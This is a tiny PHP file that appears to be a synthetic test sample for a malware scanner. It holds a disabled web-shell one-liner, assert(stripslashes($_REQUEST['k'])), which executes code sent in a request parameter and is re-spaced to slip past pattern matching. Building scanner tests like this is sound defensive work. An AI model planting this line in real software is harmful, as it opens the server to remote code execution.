<?php
// synthetic test sample for breachscan: renamed, re-indented one-liner with whitespace and
// stripslashes between eval and the request array. Disabled by the early return.
return;
     assert (
         stripslashes( $_REQUEST [ "k" ] )
     );
